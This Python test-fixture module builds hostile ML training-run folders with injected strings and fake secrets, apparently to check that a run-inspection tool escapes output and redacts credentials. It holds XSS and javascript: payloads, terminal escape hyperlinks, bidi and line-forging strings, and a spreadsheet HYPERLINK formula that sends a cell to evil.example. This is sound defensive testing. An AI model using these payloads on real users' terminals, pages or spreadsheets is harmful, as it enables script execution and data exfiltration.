"""Hostile round four: one tree holding every run kind, each string a colleague's run can carry made hostile.

Built from committed fixture runs (written by the real writers: tensorboardX, torch.save, wandb offline, HF Trainer,
Lightning's CSVLogger) with their string fields replaced, plus event files written here by tensorboardX with hostile
tag names. Every probe string holds a distinct marker (``P1`` ...), so a test can say which string leaked where.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
RUNS = ROOT / "fixtures" / "runs"

OSC8 = "\x1b]8;;https://evil.example/\x1b\\P1click\x1b]8;;\x1b\\"
"""An OSC 8 hyperlink: on a terminal that honours it, the text ``P1click`` opens evil.example."""
BIDI = "P2\u202egnp.exe"
"""A right-to-left override: shown raw, ``exe.png`` reads as ``gnp.exe`` reversed."""
NEWLINE_FORGE = "P3loss\nrun0 info all.clear nothing found"
"""A newline that forges a line of line-oriented output (``check --brief``, CSV, Markdown tables)."""
CR_FORGE = "P4bad\rP4good"
"""A carriage return that overprints what came before it on a terminal."""
HTML = "P5</script><script>alert(5)</script><img src=x onerror=alert(5)>\"'><a href=javascript:alert(5)>x</a>"
"""HTML that runs script if written unescaped (text, attribute and script contexts)."""
MARKDOWN = "P6`](javascript:alert(6))` ![t](https://evil.example/t.png) <img src=https://evil.example/p.png> | x |"
"""Markdown that breaks out of a code span, links, loads a remote image, or splits a table row."""
MARKUP = "P7[link=javascript:alert(7)]m[/link][/]"
"""Rich markup: a link, and a closing tag that raises MarkupError if parsed."""
FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"P8\")"
"""A spreadsheet formula."""
ZERO_WIDTH = "P9train/lo\u200bss"
"""A tag that reads as ``train/loss`` but is not."""

PROBES = {"P1": OSC8, "P2": BIDI, "P3": NEWLINE_FORGE, "P4": CR_FORGE, "P5": HTML, "P6": MARKDOWN, "P7": MARKUP,
          "P8": FORMULA, "P9": ZERO_WIDTH}

# Token-shaped fakes are put together here, not committed as literals (secret scanners would stop the push).
GH_TOKEN = "ghp_" + "R4nd0mT0k3n" * 3 + "abc"
HF_TOKEN = "hf_" + "Zq" * 17
WANDB_KEY = "a1b2c3d4e5" * 4
URL_PASSWORD = "Hunter2Secret"
URL_USER_TOKEN = "Zk9Qw3Rt7Yp2Lm5Nx8Vb" + "40chars" * 3
"""A token as a URL's user part (``https://<token>@github.com/...``), in no known token shape."""
HEADER_TOKEN = "Qm7Xv2Lp9Rk4Tn6Wz3Hy"
"""The credential of an ``Authorization: token ...`` header (GitHub's scheme word, not Bearer)."""
SECRETS = {"github": GH_TOKEN, "hf": HF_TOKEN, "wandb": WANDB_KEY, "url_password": URL_PASSWORD,
           "url_user_token": URL_USER_TOKEN, "header_token": HEADER_TOKEN}
"""Secret values planted in the tree; none may appear in any output."""

TAGS = ["loss", OSC8, BIDI, NEWLINE_FORGE, CR_FORGE, HTML, MARKDOWN, MARKUP, FORMULA, ZERO_WIDTH, "-cmd", "@SUM(1)"]


def all_hostile() -> str:
    """Every probe in one string (for free-text fields)."""
    return " ".join(PROBES.values())


def tbx_events(folder: Path, tags: list[str], steps: range = range(1, 6), wall: float = 1784293210.0) -> None:
    """Scalars under ``tags`` written by tensorboardX's own SummaryWriter into ``folder``.

    ``add_scalar`` would replace the characters TensorBoard's tag rule refuses (``_clean_tag``), but a run's
    event file holds whatever any writer put there (TensorBoard's own ``EventFileWriter`` and tf.summary take
    any text), so the summaries are handed to the writer's file writer as they are."""
    import tensorboardX
    from tensorboardX.proto.summary_pb2 import Summary

    folder.mkdir(parents=True, exist_ok=True)
    writer = tensorboardX.SummaryWriter(str(folder), flush_secs=3600)
    file_writer = writer._get_file_writer()
    for step in steps:
        values = [Summary.Value(tag=tag, simple_value=1.0 / step + index) for index, tag in enumerate(tags)]
        file_writer.add_summary(Summary(value=values), step, walltime=wall + step)
    writer.close()


def _pimm(parent: Path) -> Path:
    run = parent / "pimm_hostile"
    shutil.copytree(RUNS / "e2_crashed", run, symlinks=True)
    meta_path = run / "run_metadata.json"
    meta = json.loads(meta_path.read_text())
    meta["host"] = "host " + OSC8
    meta["git"]["branch"] = "main " + BIDI + " " + MARKUP
    meta["git"]["remote"] = f"https://alice:{URL_PASSWORD}@github.example/{HTML}.git"
    meta["launch_command"] = (f"pimm submit x --token {GH_TOKEN} --note {NEWLINE_FORGE} --header "
                              f"'Authorization: token {HEADER_TOKEN}'")
    meta["command"] = meta["command"] + ["--hf-token", HF_TOKEN, "--options", "name=" + MARKDOWN]
    meta["cwd"] = "/sdf/" + CR_FORGE
    meta_path.write_text(json.dumps(meta))
    cfg_path = run / "resolved_config.json"
    cfg = json.loads(cfg_path.read_text())
    for probe, text in PROBES.items():
        cfg[f"k_{probe}_" + text] = "v_" + text
    cfg["wandb_api_key"] = WANDB_KEY
    cfg["hub_url"] = f"https://bob:{URL_PASSWORD}@hub.example/x"
    cfg["code_repo"] = f"https://{URL_USER_TOKEN}@github.example/x.git"
    cfg["wandb_run_name"] = "name " + HTML
    cfg_path.write_text(json.dumps(cfg))
    sbatch = run / "launch.sbatch"
    sbatch.write_text(sbatch.read_text().replace("--job-name=semseg-oom", "--job-name=" + OSC8 + MARKUP)
                      .replace("--account=neutrino:ml-dev", "--account=acct" + BIDI)
                      + f"#SBATCH --export=ALL,WANDB_API_KEY={WANDB_KEY}\nexport HF_TOKEN={HF_TOKEN}\n")
    with open(run / "train.log", "a", encoding="utf-8") as log:
        log.write("[2026-07-17 13:40:00,000 INFO train.py line 1] " + all_hostile().replace("\n", " ") + "\n")
        log.write(f"[2026-07-17 13:40:00,001 INFO train.py line 2] login with token {GH_TOKEN}\n")
    tbx_events(run, TAGS)
    return run


def _hf(parent: Path) -> Path:
    run = parent / "hf_hostile"
    shutil.copytree(RUNS / "hf_clean", run, symlinks=True)
    state_path = run / "trainer_state.json"
    state = json.loads(state_path.read_text())
    state["best_model_checkpoint"] = "hf/" + OSC8
    state["trial_name"] = HTML
    for entry in state["log_history"]:
        for probe in ("P1", "P3", "P5", "P8"):
            if "loss" in entry:
                entry["k_" + PROBES[probe]] = 0.5
    state_path.write_text(json.dumps(state))
    config_path = run / "config.json"
    config = json.loads(config_path.read_text())
    config["_name_or_path"] = f"https://carol:{URL_PASSWORD}@hf.example/" + MARKDOWN
    config["architectures"] = [HTML, OSC8]
    config["hub_token"] = HF_TOKEN
    config_path.write_text(json.dumps(config))
    return run


def _lightning(parent: Path) -> Path:
    run = parent / "lightning_hostile"
    shutil.copytree(RUNS / "lightning_csv", run, symlinks=True)
    version = run / "lightning_logs" / "version_0"
    hparams = version / "hparams.yaml"
    lines = [hparams.read_text()]
    for probe, text in PROBES.items():
        lines.append(f"k_{probe}: {json.dumps(text)}\n")
    lines.append(f"api_token: {HF_TOKEN}\n")
    hparams.write_text("".join(lines))
    metrics = version / "metrics.csv"
    rows = metrics.read_text().splitlines()
    header = rows[0].split(",") + ['"' + FORMULA.replace('"', '""') + '"', '"' + OSC8 + '"', '"' + MARKUP + '"']
    body = [row + ",0.5,0.25,0.125" for row in rows[1:]]
    metrics.write_text("\n".join([",".join(header)] + body) + "\n")
    return run


def _wandb(parent: Path) -> Path:
    from tests.hostile_support import wandb_folder

    run = parent / "wandb_hostile"
    config: dict[str, object] = {f"k_{probe}_{text}": "v_" + text for probe, text in PROBES.items()}
    config["api_key"] = WANDB_KEY
    config["_wandb"] = {"value": {"cli_version": "0.17.9"}}
    folder = wandb_folder(run / "wandb", "hostile1", config,
                          {"host": "h" + OSC8, "program": "train.py " + HTML,
                           "args": ["--wandb-key", WANDB_KEY, MARKDOWN], "git": {"remote": f"https://{URL_USER_TOKEN}@"
                                                                                    "github.example/r.git"}})
    del folder
    return run


def build(parent: Path) -> dict[str, Path]:
    """The hostile tree under ``parent``: a pimm run, an HF run, a Lightning run, a W&B offline run."""
    parent.mkdir(parents=True, exist_ok=True)
    return {"pimm": _pimm(parent), "hf": _hf(parent), "lightning": _lightning(parent), "wandb": _wandb(parent)}
